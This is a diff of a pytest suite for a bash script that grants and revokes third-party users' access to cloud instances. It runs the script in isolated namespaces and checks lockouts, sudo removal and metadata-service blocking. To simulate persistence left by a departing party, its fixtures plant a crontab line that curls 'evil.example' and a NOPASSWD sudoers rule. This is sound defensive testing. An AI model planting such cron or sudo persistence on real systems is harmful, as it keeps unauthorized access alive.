@@ -1,8 +1,9 @@
-"""The Run As script, linted, and run for real against a private copy of /etc and /home.
+"""The Run As script, linted, and run for real against a private /etc and /home.
 
-The script runs inside a new mount namespace where /etc and /home are copies, and a new network
-namespace with its own firewall: the users and rules it makes never reach the machine running the tests.
-That needs root, unshare and nft (as on CI); elsewhere these tests are skipped and say why.
+The script runs inside a new mount namespace where /etc is the machine's own under an overlay that keeps
+every change apart, /home a directory of the test's, and a new network namespace with its own firewall: the
+users and rules it makes never reach the machine running the tests. That needs root, unshare, overlayfs and
+nft (as on CI); elsewhere these tests are skipped and say why.
 """
 
 from __future__ import annotations
@@ -11,6 +12,8 @@ import os
 import shutil
 import subprocess
 import sys
+import weakref
+from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -35,49 +38,78 @@ needs_sudo = pytest.mark.skipif(shutil.which("sudo") is None, reason="the sudo r
 SHELLCHECK = Path(sys.executable).parent / "shellcheck"
 
 
-def test_the_script_passes_shellcheck(tmp_path):
-    script = tmp_path / "run-as-user.sh"
+def test_the_script_and_a_per_person_grant_as_user_data_pass_shellcheck_and_set_shell_options_once(tmp_path):
+    # Each platform's file passes ShellCheck alone (scripts/test); assembled, they must still pass together: the
+    # association's script, and user data granting each of a party's people. One ShellCheck run lints both, and
+    # names the file of each finding.
+    script, user_data = tmp_path / "run-as-user.sh", tmp_path / "user-data.sh"
     script.write_text("#!/bin/bash\n" + run_as_user_script([USER]))
-    result = subprocess.run([str(SHELLCHECK), str(script)], capture_output=True, text=True, check=False)
+    user_data.write_text(FIRST_BOOT + run_as_user_script(["tpb-alice", "tpb-bob"], datetime(2099, 1, 1, tzinfo=UTC)))
+    result = subprocess.run([str(SHELLCHECK), str(script), str(user_data)], capture_output=True, text=True, check=False)
     assert result.returncode == 0, result.stdout
-
-
-def test_a_per_person_grant_as_user_data_passes_shellcheck_and_sets_its_shell_options_once(tmp_path):
-    # Each platform's file passes ShellCheck alone (scripts/test); assembled, they must still pass together.
-    script = tmp_path / "user-data.sh"
-    script.write_text(FIRST_BOOT + run_as_user_script(["tpb-alice", "tpb-bob"], datetime(2099, 1, 1, tzinfo=UTC)))
-    result = subprocess.run([str(SHELLCHECK), str(script)], capture_output=True, text=True, check=False)
-    assert result.returncode == 0, result.stdout
-    assert script.read_text().count("set -euo pipefail") == 1
+    assert user_data.read_text().count("set -euo pipefail") == 1, "user data sets the shell options more than once"
 
 
 NAMESPACES = ["unshare", "--mount", "--net", "--pid", "--fork", "--mount-proc", "--propagation", "private"]
 """A private mount table, network stack and process table for each run."""
 
 
+WAIT_UNTIL = r"""
+# wait_until COMMAND...: runs COMMAND (its output dropped) every 0.01 s until it succeeds; fails after 1,000
+# tries (ten seconds or more). What a test starts in the background is waited for, not slept on.
+wait_until() {
+  local tries
+  for ((tries = 0; tries < 1000; tries++)); do
+    "$@" >/dev/null 2>&1 && return 0
+    sleep 0.01
+  done
+  echo "never came true: $*" >&2
+  return 1
+}
+"""
+"""A shell function each namespace test sources, beside ``open_session``."""
+
+
 class PrivateSystem:
     """A private /etc, /home, /var/spool and /var/tmp in which shell commands run as root, and sessions open as
-    SSM Agent opens them (``open_session``, tests/agent_session.py)."""
+    SSM Agent opens them (``open_session``, tests/agent_session.py).
 
-    def __init__(self, root: Path) -> None:
-        self.etc = root / "etc"
+    ``etc`` is an overlay mount of the machine's own /etc: every file of it is there as the script finds it on
+    an instance, and every change a run makes lands in ``etc_changes``, never in /etc (a copy of its 1,200
+    files cost a third of a second a test). The test reads and writes at ``etc`` what the runs see at /etc.
+    ``like``, another system, starts this one with what that one's runs changed (a copy of its few files)."""
+
+    def __init__(self, root: Path, like: PrivateSystem | None = None) -> None:
+        self.etc, self.etc_changes = root / "etc", root / "etc-changes"
         self.home = root / "home"
         self.spool = root / "spool"
         self.tmp = root / "tmp"
-        subprocess.run(["cp", "-a", "/etc", str(self.etc)], check=True)
-        self.home.mkdir()
-        (self.spool / "cron" / "crontabs").mkdir(parents=True)
-        self.tmp.mkdir()
-        self.tmp.chmod(0o1777)
+        if like is None:
+            self.etc_changes.mkdir()
+            self.home.mkdir()
+            (self.spool / "cron" / "crontabs").mkdir(parents=True)
+            self.tmp.mkdir()
+            self.tmp.chmod(0o1777)
+        else:
+            # The same names under each root: one cp, owners and modes kept.
+            copied = (like.etc_changes, like.home, like.spool, like.tmp)
+            subprocess.run(["cp", "-a", *map(str, copied), str(root)], check=True)
+        work = root / "etc-work"  # overlayfs's own scratch directory, on the same file system as etc_changes
+        work.mkdir()
+        self.etc.mkdir()
+        layers = f"lowerdir=/etc,upperdir={self.etc_changes},workdir={work}"
+        subprocess.run(["mount", "-t", "overlay", "overlay", "-o", layers, str(self.etc)], check=True)
+        # close() unmounts it, once: at a fixture's end, or else when this system is collected or the tests end.
+        self.close = weakref.finalize(self, subprocess.run, ["umount", "--lazy", str(self.etc)], check=False)
         self.script = root / "run-as-user.sh"
-        self.agent = root / "agent-session.sh"
-        self.agent.write_text(OPEN_SESSION)
+        self.functions = root / "functions.sh"
+        self.functions.write_text(OPEN_SESSION + WAIT_UNTIL)
 
     def run(self, commands: str) -> subprocess.CompletedProcess[str]:
         # Its own process table too, so what the script signals is the namespace's processes only.
         inner = (
             f"mount --bind {self.etc} /etc && mount --bind {self.home} /home && mount --bind {self.spool} /var/spool"
-            f" && mount --bind {self.tmp} /var/tmp && . {self.agent} && {commands}"
+            f" && mount --bind {self.tmp} /var/tmp && . {self.functions} && {commands}"
         )
         return subprocess.run(
             [*NAMESPACES, "bash", "-c", inner],
@@ -108,44 +140,59 @@ class PrivateSystem:
 
 
 @pytest.fixture
-def system(tmp_path) -> PrivateSystem:
-    return PrivateSystem(tmp_path)
+def system(tmp_path) -> Iterator[PrivateSystem]:
+    """A private system as the machine is."""
+    system = PrivateSystem(tmp_path)
+    yield system
+    system.close()
+
+
+PAST, FUTURE = datetime(2020, 1, 1, tzinfo=UTC), datetime(2099, 1, 1, tzinfo=UTC)
+
+
+def scripts(system: PrivateSystem, **grants: datetime | None) -> dict[str, Path]:
+    """One converge script a grant (user -> expiry), as each party's association runs it."""
+    paths = {}
+    for user, expires in grants.items():
+        paths[user] = system.script.with_name(f"{user}.sh")
+        paths[user].write_text(run_as_user_script([user], expires))
+    return paths
+
+
+def granted_first(system: PrivateSystem, *users: str, expires: datetime | None = FUTURE) -> dict[str, int]:
+    """Grants each of ``users`` on its own (as its party's association would), and returns their uids."""
+    for user in users:
+        result = system.run(f"bash {scripts(system, **{user: expires})[user]}")
+        assert result.returncode == 0, result.stderr
+    return {user: int(system.passwd_entry(user)[2]) for user in users}
+
+
+@pytest.fixture(scope="module")
+def first_grant(tmp_path_factory) -> Iterator[PrivateSystem]:
+    """A private system in which USER's grant (until FUTURE) ran once, as its party's association first runs
+    it; never changed after. The tests that begin there start from copies of it (``granted``)."""
+    system = PrivateSystem(tmp_path_factory.mktemp("first-grant"))
+    granted_first(system, USER)
+    yield system
+    system.close()
+
+
+@pytest.fixture
+def granted(first_grant, tmp_path) -> Iterator[PrivateSystem]:
+    """A private system where USER's grant (until FUTURE) ran: a copy of ``first_grant``."""
+    system = PrivateSystem(tmp_path, like=first_grant)
+    yield system
+    system.close()
 
 
 @needs_root
-def test_it_creates_a_plain_user_with_a_home_and_no_password(system):
-    result = system.run_script()
-    assert result.returncode == 0, result.stderr
-    _, _, uid, _, _, home, shell = system.passwd_entry()
+def test_it_creates_a_plain_user_with_a_home_and_no_password(first_grant):
+    _, _, uid, _, _, home, shell = first_grant.passwd_entry()
     assert int(uid) >= 1000
     assert (home, shell) == (f"/home/{USER}", "/bin/bash")
-    assert (system.home / USER).is_dir()
-    assert (system.home / USER).stat().st_uid == int(uid)
-    assert system.password_field().startswith("!")  # locked: sessions are the only way in
-
-
-@needs_root
-def test_running_it_again_converges(system):
-    first = system.run_script()
-    second = system.run_script()
-    assert (first.returncode, second.returncode) == (0, 0), second.stderr
-    assert sum(line.startswith(f"{USER}:") for line in (system.etc / "passwd").read_text().splitlines()) == 1
-
-
-@needs_root
-def test_it_takes_away_administrator_groups_and_sudo_rules(system):
-    result = system.run_script(
-        before=(
-            "(getent group wheel >/dev/null || groupadd wheel)"
-            f" && useradd --create-home --groups wheel,adm --password x {MADE_HERE} {USER}"
-            f" && mkdir -p /etc/sudoers.d && echo '{USER} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{USER}"
-        )
-    )
-    assert result.returncode == 0, result.stderr
-    assert USER not in system.group_members("wheel")
-    assert USER not in system.group_members("adm")
-    assert not (system.etc / "sudoers.d" / USER).exists()
-    assert system.password_field().startswith("!")
+    assert (first_grant.home / USER).is_dir()
+    assert (first_grant.home / USER).stat().st_uid == int(uid)
+    assert first_grant.password_field().startswith("!")  # locked: sessions are the only way in
 
 
 @needs_root
@@ -167,15 +214,20 @@ def test_it_fails_when_another_sudo_rule_still_grants_the_user(system):
 
 IMDS_V4, IMDS_V6 = "169.254.169.254", "fd00:ec2::254"
 STAND_IN_IMDS = """
-import http.server, socketserver, sys
-class Answer(http.server.BaseHTTPRequestHandler):
+import socket, socketserver, sys, threading
+from http.server import BaseHTTPRequestHandler
+class Answer(BaseHTTPRequestHandler):
     def do_GET(self):
         self.send_response(200); self.end_headers(); self.wfile.write(b"role-credentials")
     def log_message(self, *args): pass
-class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
-    address_family = __import__("socket").AF_INET6 if ":" in sys.argv[1] else __import__("socket").AF_INET
-Server((sys.argv[1], 80), Answer).serve_forever()
+class ServerV6(socketserver.TCPServer):
+    address_family = socket.AF_INET6
+for server in (socketserver.TCPServer((sys.argv[1], 80), Answer), ServerV6((sys.argv[2], 80), Answer)):
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+print("listening", flush=True)
+threading.Event().wait()
 """
+"""One process answering at IMDS's IPv4 and IPv6 addresses (``$1``, ``$2``); it says when it listens."""
 
 
 FETCH = """
@@ -204,18 +256,19 @@ class InstanceWithImds(PrivateSystem):
         (self.tmp / "fetch.sh").write_text(FETCH)  # in /var/tmp, where a session's user may read it
         setup = (
             f"ip link set lo up && ip addr add {IMDS_V4}/32 dev lo && ip -6 addr add {IMDS_V6}/128 dev lo nodad"
-            # The stand-ins end with the namespace's shell; they must not hold the test's pipes open.
-            f" && {{ {sys.executable} {server} {IMDS_V4} >/dev/null 2>&1 & v4=$!; }}"
-            f" && {{ {sys.executable} {server} {IMDS_V6} >/dev/null 2>&1 & v6=$!; }}"
-            ' && trap "kill $v4 $v6" EXIT'
-            f" && for i in $(seq 50); do {self.fetch(IMDS_V4)} | grep -q role-credentials && break; sleep 0.1; done"
+            # Started with the standard library only (-I -S: no site packages to load), read until it listens;
+            # it ends with the namespace, when this shell (its first process) exits.
+            f" && exec 4< <({sys.executable} -I -S {server} {IMDS_V4} {IMDS_V6} </dev/null) && read -r -u 4 listening"
         )
         return self.run(f"{setup} && {commands}")
 
 
 @pytest.fixture
-def instance(tmp_path) -> InstanceWithImds:
-    return InstanceWithImds(tmp_path)
+def instance(tmp_path) -> Iterator[InstanceWithImds]:
+    """A private system as the machine is, with a stand-in IMDS."""
+    instance = InstanceWithImds(tmp_path)
+    yield instance
+    instance.close()
 
 
 def answers(result: subprocess.CompletedProcess[str]) -> list[str]:
@@ -266,7 +319,6 @@ def test_the_association_runs_each_platforms_script_whole():
 
 # -- access ends on the instance: grant, revoke, move, expire ------------------------------------------
 
-PAST, FUTURE = datetime(2020, 1, 1, tzinfo=UTC), datetime(2099, 1, 1, tzinfo=UTC)
 REMOVED = ".third-party-ec2-access-removed"
 """Where, under /home, the script keeps removed users' homes and the record of their uids."""
 
@@ -276,10 +328,11 @@ def heartbeat(user: str) -> str:
 
 
 def leave_behind(user: str) -> str:
-    """What a party leaves on the instance from a session: a process that hops PIDs, and a crontab."""
+    """What a party leaves on the instance from a session: a process that hops PIDs (its heartbeat begun, so it
+    runs), and a crontab."""
     return (
-        f"{session(user, pid_hopper(heartbeat(user)))}"
-        f" && echo '* * * * * curl evil.example' > /var/spool/cron/crontabs/{user} && sleep 0.3"
+        f"{session(user, pid_hopper(heartbeat(user)))} && wait_until test -s {heartbeat(user)}"
+        f" && echo '* * * * * curl evil.example' > /var/spool/cron/crontabs/{user}"
     )
 
 
@@ -297,21 +350,13 @@ BUSY = (
 OTHERS_LEFT = "echo others=$(($(pgrep -c -u ops) + $(pgrep -c -u root -x sleep)))"
 
 
-def scripts(system: PrivateSystem, **grants: datetime | None) -> dict[str, Path]:
-    """One converge script a grant (user -> expiry), as each party's association runs it."""
-    paths = {}
-    for user, expires in grants.items():
-        paths[user] = system.script.with_name(f"{user}.sh")
-        paths[user].write_text(run_as_user_script([user], expires))
-    return paths
-
-
-def granted_first(system: PrivateSystem, *users: str, expires: datetime | None = FUTURE) -> dict[str, int]:
-    """Grants each of ``users`` on its own (as its party's association would), and returns their uids."""
-    for user in users:
-        result = system.run(f"bash {scripts(system, **{user: expires})[user]}")
-        assert result.returncode == 0, result.stderr
-    return {user: int(system.passwd_entry(user)[2]) for user in users}
+def process_of(user: str, groups: str = "--init-groups") -> str:
+    """A shell command that starts a long-running process as ``user`` (a name, or a bare uid with ``groups``
+    --clear-groups), outside any session, and waits until it runs."""
+    return (
+        f"(setpriv --reuid={user} --regid={user} {groups} nohup sleep 600 >/dev/null 2>&1 &)"
+        f" && wait_until pgrep -u {user} -x sleep"
+    )
 
 
 def assert_removed(system: PrivateSystem, user: str, uid: int) -> None:
@@ -343,88 +388,65 @@ def test_a_locked_account_still_gets_a_session_as_the_agent_opens_one(system):
 
 
 @needs_root
-def test_granted_user_is_usable_and_left_running(system):
-    granted_first(system, USER)
-    result = system.run(f"{leave_behind(USER)} && bash {scripts(system, **{USER: FUTURE})[USER]} && {report(USER)}")
+def test_running_it_again_converges_and_leaves_a_granted_user_usable_and_running(granted):
+    result = granted.run(f"{leave_behind(USER)} && bash {scripts(granted, **{USER: FUTURE})[USER]} && {report(USER)}")
     assert result.returncode == 0, result.stderr
     assert f"{USER}: session opened, processes running" in result.stdout  # a granted user's work is not touched
-    assert system.passwd_entry()[6] == "/bin/bash"
-    assert (system.spool / "cron" / "crontabs" / USER).exists()
+    users = [line.split(":")[0] for line in (granted.etc / "passwd").read_text().splitlines()]
+    assert users.count(USER) == 1, "running it again made a second user"
+    assert granted.passwd_entry()[6] == "/bin/bash"
+    assert (granted.spool / "cron" / "crontabs" / USER).exists()
 
 
 @needs_root
-def test_moving_the_grant_to_another_party_removes_the_old_user_and_ends_all_it_left(system):
-    uid = granted_first(system, USER)[USER]
-    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
-    # Among the instance's other processes, the old party's user left one that hops PIDs.
-    result = system.run(f"{BUSY} && {leave_behind(USER)} && bash {other} && {report(USER)} && {OTHERS_LEFT}")
+def test_moving_the_grant_to_another_party_removes_the_old_user_and_ends_all_it_left(granted):
+    # Moved to B (re-tagged), or revoked (A's association gone): the instance's next run of any grant, B's,
+    # converges it. Among the instance's other processes, the old party's user left one that hops PIDs.
+    uid = int(granted.passwd_entry(USER)[2])
+    other = scripts(granted, **{"third-party-b": FUTURE})["third-party-b"]
+    result = granted.run(f"{BUSY} && {leave_behind(USER)} && bash {other} && {report(USER)} && {OTHERS_LEFT}")
     assert result.returncode == 0, result.stderr
     assert f"{USER} is removed (uid {uid})" in result.stdout
     assert f"{USER}: session refused, processes ended" in result.stdout
     assert f"others={BUSY_MACHINE}" in result.stdout  # no one else's
-    assert_removed(system, USER, uid)
-    assert not (system.spool / "cron" / "crontabs" / USER).exists()
-    assert "third-party-b" in system.group_members(RUN_AS_GROUP)
+    assert_removed(granted, USER, uid)
+    assert not (granted.spool / "cron" / "crontabs" / USER).exists()
+    assert "third-party-b" in granted.group_members(RUN_AS_GROUP)
 
 
 @needs_root
-def test_revoking_a_party_removes_its_user_on_the_next_run_of_any_grant(system):
-    # The revoked party's association is gone; the instance's next grant (here, re-tagged to B) converges it.
-    uid = granted_first(system, USER)[USER]
-    result = system.run(
-        f"{leave_behind(USER)} && bash {scripts(system, **{'third-party-b': FUTURE})['third-party-b']}"
-        f" && {report(USER)}"
-    )
-    assert result.returncode == 0, result.stderr
-    assert f"{USER}: session refused, processes ended" in result.stdout
-    assert_removed(system, USER, uid)
-
-
-@needs_root
-def test_after_its_expiry_the_partys_own_run_removes_its_user(system):
-    uid = granted_first(system, USER)[USER]
-    result = system.run(f"{leave_behind(USER)} && bash {scripts(system, **{USER: PAST})[USER]} && {report(USER)}")
+def test_after_its_expiry_the_partys_own_run_removes_its_user(granted):
+    uid = int(granted.passwd_entry(USER)[2])
+    result = granted.run(f"{leave_behind(USER)} && bash {scripts(granted, **{USER: PAST})[USER]} && {report(USER)}")
     assert result.returncode == 0, result.stderr
     assert "access expired" in result.stdout
     assert f"{USER}: session refused, processes ended" in result.stdout
-    assert_removed(system, USER, uid)
+    assert_removed(granted, USER, uid)
 
 
 @needs_root
-def test_a_new_grant_makes_the_user_afresh(system):
-    old_uid = granted_first(system, USER)[USER]
-    (system.home / USER / "notes").write_text("the first grant's")
-    expired = system.run(f"bash {scripts(system, **{USER: PAST})[USER]}")
+def test_a_new_grant_makes_the_user_afresh(granted):
+    old_uid = int(granted.passwd_entry(USER)[2])
+    (granted.home / USER / "notes").write_text("the first grant's")
+    expired = granted.run(f"bash {scripts(granted, **{USER: PAST})[USER]}")
     assert expired.returncode == 0, expired.stderr
-    new_uid = granted_first(system, USER)[USER]
+    new_uid = granted_first(granted, USER)[USER]
     assert new_uid > old_uid  # never a removed user's uid: an old uid names one person only
-    assert not (system.home / USER / "notes").exists()  # a fresh home; the old one is kept apart, root-only
-    (kept,) = (system.home / REMOVED).glob(f"{USER}.uid{old_uid}.*")
+    assert not (granted.home / USER / "notes").exists()  # a fresh home; the old one is kept apart, root-only
+    (kept,) = (granted.home / REMOVED).glob(f"{USER}.uid{old_uid}.*")
     assert (kept / "notes").read_text() == "the first grant's"
-    result = system.run(session(USER, "id -u"))
+    result = granted.run(session(USER, "id -u"))
     assert result.stdout.strip() == str(new_uid), result.stderr
 
 
 @needs_root
-def test_a_user_it_made_is_removed_even_out_of_the_group(system):
+def test_a_user_it_made_is_removed_even_out_of_the_group(granted):
     # Found by the name it gave the user, should the group have lost it.
-    uid = granted_first(system, USER)[USER]
-    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
-    result = system.run(f"gpasswd --delete {USER} {RUN_AS_GROUP} && bash {other}")
+    uid = int(granted.passwd_entry(USER)[2])
+    other = scripts(granted, **{"third-party-b": FUTURE})["third-party-b"]
+    result = granted.run(f"gpasswd --delete {USER} {RUN_AS_GROUP} && bash {other}")
     assert result.returncode == 0, result.stderr
-    assert_removed(system, USER, uid)
-
-
-@needs_root
-def test_users_the_stack_did_not_make_are_never_touched(system):
-    result = system.run(
-        "useradd --create-home ops && (setpriv --reuid=ops --regid=ops --init-groups nohup sleep 600 >/dev/null 2>&1 &)"
-        f" && sleep 0.3 && bash {scripts(system, **{USER: PAST})[USER]} >/dev/null"
-        " && echo ops=$(pgrep -c -u ops || true)"
-    )
-    assert result.returncode == 0, result.stderr
-    assert "ops=1" in result.stdout
-    assert system.shadow_entry("ops")[7] == ""
+    assert_removed(granted, USER, uid)
 
 
 # -- failing closed: whatever goes wrong, every lockout happens --------------------------------------------
@@ -435,50 +457,49 @@ EVERYONE_MAY_SUDO = "echo 'ALL ALL=(root) NOPASSWD: /usr/bin/true' > /etc/sudoer
 
 @needs_root
 @needs_sudo
-def test_a_sudo_rule_for_everyone_does_not_stop_the_lockouts(system):
-    uid = granted_first(system, USER)[USER]
-    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
-    result = system.run(
+def test_a_sudo_rule_for_everyone_does_not_stop_the_lockouts(granted):
+    uid = int(granted.passwd_entry(USER)[2])
+    other = scripts(granted, **{"third-party-b": FUTURE})["third-party-b"]
+    result = granted.run(
         f"{EVERYONE_MAY_SUDO} && {leave_behind(USER)} && {{ bash {other}; echo status=$?; }}"
         f" && {report(USER)} && {report('third-party-b')}"
     )
     assert "status=1" in result.stdout
     assert "third-party-b can still use sudo through another rule" in result.stderr
     assert f"{USER}: session refused, processes ended" in result.stdout
-    assert_removed(system, USER, uid)
+    assert_removed(granted, USER, uid)
     assert "third-party-b: session refused" in result.stdout  # nor is a user that can sudo left usable
 
 
 @needs_root
 @needs_sudo
-def test_an_expired_grant_is_never_let_in_again(system):
-    uid = granted_first(system, USER)[USER]
-    result = system.run(
-        f"{EVERYONE_MAY_SUDO} && {leave_behind(USER)} && bash {scripts(system, **{USER: PAST})[USER]} && {report(USER)}"
-    )
+def test_an_expired_grant_is_never_let_in_again(granted):
+    uid = int(granted.passwd_entry(USER)[2])
+    expired = scripts(granted, **{USER: PAST})[USER]
+    result = granted.run(f"{EVERYONE_MAY_SUDO} && {leave_behind(USER)} && bash {expired} && {report(USER)}")
     assert result.returncode == 0, result.stderr
     assert f"{USER}: session refused, processes ended" in result.stdout
-    assert_removed(system, USER, uid)
+    assert_removed(granted, USER, uid)
 
 
 @needs_root
-def test_an_expiry_it_cannot_read_counts_as_passed(system):
-    uid = granted_first(system, USER)[USER]
-    script = system.script.with_name("garbled.sh")
+def test_an_expiry_it_cannot_read_counts_as_passed(granted):
+    uid = int(granted.passwd_entry(USER)[2])
+    script = granted.script.with_name("garbled.sh")
     script.write_text(
         run_as_user_script([USER], FUTURE).replace(f"expires='{FUTURE:%Y-%m-%dT%H:%M:%SZ}'", "expires='soon'")
     )
-    result = system.run(f"bash {script}")
+    result = granted.run(f"bash {script}")
     assert result.returncode == 1
     assert "cannot read the expiry soon: treated as passed" in result.stderr
-    assert_removed(system, USER, uid)
+    assert_removed(granted, USER, uid)
 
 
 @needs_root
-def test_with_nft_failing_the_lockouts_happen_and_no_user_is_made(system):
-    uid = granted_first(system, USER)[USER]
-    other = scripts(system, **{"third-party-b": FUTURE})["third-party-b"]
-    result = system.run(
+def test_with_nft_failing_the_lockouts_happen_and_no_user_is_made(granted):
+    uid = int(granted.passwd_entry(USER)[2])
+    other = scripts(granted, **{"third-party-b": FUTURE})["third-party-b"]
+    result = granted.run(
         # nft broken: what stands where it was cannot be run.
         f"mount --bind /dev/null $(command -v nft) && {leave_behind(USER)} && {{ bash {other}; echo status=$?; }}"
         f" && {report(USER)}"
@@ -486,16 +507,18 @@ def test_with_nft_failing_the_lockouts_happen_and_no_user_is_made(system):
     assert "status=1" in result.stdout
     assert "cannot refuse third-party-b the instance metadata service, so none is made" in result.stderr
     assert f"{USER}: session refused, processes ended" in result.stdout
-    assert_removed(system, USER, uid)
-    assert "third-party-b:" not in (system.etc / "passwd").read_text()
+    assert_removed(granted, USER, uid)
+    assert "third-party-b:" not in (granted.etc / "passwd").read_text()
 
 
 @needs_root
 def test_without_nft_the_user_is_never_made(system):
     result = system.run(
-        # Every command of the machine but nft.
-        "mkdir /var/tmp/bin && for tool in /usr/sbin/* /usr/bin/*; do"
-        ' [ "${tool##*/}" = nft ] || ln -sf "$tool" /var/tmp/bin/; done'
+        # Every command of the machine but nft (/usr/bin's where both have one), linked by two ln, not one a
+        # tool, in memory (a tmpfs), where making 1,200 links costs a tenth of what it costs on disk.
+        "mkdir /var/tmp/bin && mount -t tmpfs tmpfs /var/tmp/bin && ln -s /usr/bin/* /var/tmp/bin/"
+        ' && for tool in /usr/sbin/*; do [ -e "/var/tmp/bin/${tool##*/}" ] || sbin+=("$tool"); done'
+        ' && ln -s "${sbin[@]}" /var/tmp/bin/ && rm -f /var/tmp/bin/nft'
         f" && PATH=/var/tmp/bin bash {scripts(system, **{USER: FUTURE})[USER]}"
     )
     assert result.returncode != 0
@@ -508,16 +531,22 @@ def test_without_nft_the_user_is_never_made(system):
 
 @needs_root
 def test_a_sessions_only_groups_are_its_own_and_the_run_as_group(system):
+    # A user an earlier run made, since given administrator groups, a password and a sudo rule: all taken away.
     script = scripts(system, **{USER: FUTURE})[USER]
     result = system.run(
         "for group in wheel docker disk; do getent group $group >/dev/null || groupadd $group; done"
-        f" && useradd --create-home --groups wheel,adm,docker,disk {MADE_HERE} {USER} && bash {script}"
-        f" && {session(USER, 'echo groups=$(id -G)')}"
+        f" && useradd --create-home --groups wheel,adm,docker,disk --password x {MADE_HERE} {USER}"
+        f" && mkdir -p /etc/sudoers.d && echo '{USER} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{USER}"
+        f" && bash {script} && {session(USER, 'echo groups=$(id -G)')}"
     )
     assert result.returncode == 0, result.stderr
     names = {line.split(":")[2]: line.split(":")[0] for line in (system.etc / "group").read_text().splitlines()}
     (listed,) = [line.removeprefix("groups=") for line in result.stdout.splitlines() if line.startswith("groups=")]
     assert sorted(names[gid] for gid in listed.split()) == sorted([USER, RUN_AS_GROUP])
+    for group in ("wheel", "adm"):
+        assert USER not in system.group_members(group), f"still a member of {group}"
+    assert not (system.etc / "sudoers.d" / USER).exists(), "its sudo rule is left"
+    assert system.password_field().startswith("!"), "its password is left usable"
 
 
 # -- one OS user per person: each of a party's people, and only those still listed ----------------------
@@ -526,50 +555,44 @@ ALICE, BOB = "tpb-alice", "tpb-bob"
 
 
 @needs_root
-def test_each_person_gets_a_plain_user_of_their_own_refused_imds(instance):
-    instance.script.write_text(run_as_user_script([ALICE, BOB], FUTURE))
-    result = instance.run_with_imds(
-        f"bash {instance.script} >/dev/null && {instance.fetch(IMDS_V4, ALICE)} && {instance.fetch(IMDS_V4, BOB)}"
+def test_each_person_gets_a_plain_user_of_their_own_refused_imds_and_one_no_longer_listed_is_removed(instance):
+    # The party's grant lists alice and bob; then alice alone: bob is removed, and alice keeps working.
+    both, alice_only = instance.script.with_name("both.sh"), instance.script.with_name("alice.sh")
+    both.write_text(run_as_user_script([ALICE, BOB], FUTURE))
+    alice_only.write_text(run_as_user_script([ALICE], FUTURE))
+    first = instance.run_with_imds(
+        f"bash {both} >/dev/null && {instance.fetch(IMDS_V4, ALICE)} && {instance.fetch(IMDS_V4, BOB)}"
         f" && {instance.fetch(IMDS_V4)}"
     )
-    assert answers(result) == ["REFUSED", "REFUSED", "role-credentials"]
+    assert answers(first) == ["REFUSED", "REFUSED", "role-credentials"]
     uids = {instance.passwd_entry(user)[2] for user in (ALICE, BOB)}
     assert len(uids) == 2  # their files and processes tell them apart
     for user in (ALICE, BOB):
         assert instance.passwd_entry(user)[6] == "/bin/bash"
         assert (instance.home / user).is_dir()
     assert sorted(instance.group_members(RUN_AS_GROUP)) == [ALICE, BOB]
-
-
-@needs_root
-def test_a_person_no_longer_listed_is_removed_and_the_others_keep_working(system):
-    both, alice_only = system.script.with_name("both.sh"), system.script.with_name("alice.sh")
-    both.write_text(run_as_user_script([ALICE, BOB], FUTURE))
-    alice_only.write_text(run_as_user_script([ALICE], FUTURE))
-    first = system.run(f"bash {both}")
-    assert first.returncode == 0, first.stderr
-    bobs_uid = int(system.passwd_entry(BOB)[2])
-    result = system.run(
+    bobs_uid = int(instance.passwd_entry(BOB)[2])
+    result = instance.run(
         f"{leave_behind(ALICE)} && {leave_behind(BOB)} && bash {alice_only} && {report(ALICE)} && {report(BOB)}"
     )
     assert result.returncode == 0, result.stderr
     assert f"{BOB} is removed (uid {bobs_uid})" in result.stdout
     assert f"{ALICE}: session opened, processes running" in result.stdout
     assert f"{BOB}: session refused, processes ended" in result.stdout
-    assert_removed(system, BOB, bobs_uid)  # his home kept, root-only: his files still name his uid
+    assert_removed(instance, BOB, bobs_uid)  # his home kept, root-only: his files still name his uid
 
 
 @needs_root
-def test_a_people_list_cannot_smuggle_a_system_account(system):
-    granted_first(system, BOB)
-    script = system.script.with_name("people.sh")
+def test_a_people_list_cannot_smuggle_a_system_account(granted):
+    # USER, another party's, is granted here no more.
+    script = granted.script.with_name("people.sh")
     script.write_text(run_as_user_script([ALICE, "svc-daemon"], FUTURE))
-    result = system.run(f"useradd --system svc-daemon && bash {script}")
+    result = granted.run(f"useradd --system svc-daemon && bash {script}")
     assert result.returncode != 0
     assert "refusing to manage svc-daemon: it is a system account" in result.stderr
-    assert "svc-daemon" not in system.group_members(RUN_AS_GROUP)
-    assert int(system.passwd_entry("svc-daemon")[2]) < 1000  # untouched
-    assert f"{BOB}:" not in (system.etc / "passwd").read_text()  # and the lockouts happened all the same
+    assert "svc-daemon" not in granted.group_members(RUN_AS_GROUP)
+    assert int(granted.passwd_entry("svc-daemon")[2]) < 1000  # untouched
+    assert f"{USER}:" not in (granted.etc / "passwd").read_text()  # and the lockouts happened all the same
 
 
 def test_names_that_are_not_linux_users_never_reach_the_script():
@@ -583,9 +606,7 @@ def test_names_that_are_not_linux_users_never_reach_the_script():
 
 SUBORDINATE = "100005"
 """A uid in the range useradd gives the first user (SUB_UID_MIN 100000): newuidmap would let her run as it."""
-RUN_AS_SUBORDINATE = (
-    f"(setpriv --reuid={SUBORDINATE} --regid={SUBORDINATE} --clear-groups nohup sleep 600 >/dev/null 2>&1 &)"
-)
+RUN_AS_SUBORDINATE = process_of(SUBORDINATE, "--clear-groups")
 """What she starts in a user namespace newuidmap mapped onto her subordinate range: to the kernel (the firewall's
 skuid, kill(2)), a process of uid 100005. (newuidmap is not installed here: the process is started as root.)"""
 
@@ -612,21 +633,10 @@ def with_subordinate_ids(system) -> PrivateSystem:
 
 
 @needs_root
-def test_a_user_it_makes_has_no_subordinate_ids(with_subordinate_ids):
-    system = with_subordinate_ids
-    result = system.run_script(before="useradd ops")
-    assert result.returncode == 0, result.stderr
-    assert subordinate_lines(system, "ops") == ["ops:100000:65536", "ops:100000:65536"]  # the setup gives ranges
-    assert subordinate_lines(system, USER) == []
-    assert "subordinate ids are taken away" not in result.stdout  # useradd gave none: nothing to take
-
-
-@needs_root
